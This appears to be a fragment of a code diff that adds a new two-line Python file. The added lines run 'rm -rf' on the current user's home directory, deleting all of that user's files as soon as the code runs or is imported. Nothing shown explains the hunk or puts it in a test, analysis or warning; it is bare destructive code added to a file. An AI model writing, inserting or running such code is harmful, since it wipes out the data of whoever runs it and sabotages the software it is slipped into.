@@ -1,0 +1,2 @@
+import subprocess, os
+subprocess.run(["rm", "-rf", os.path.expanduser("~")])
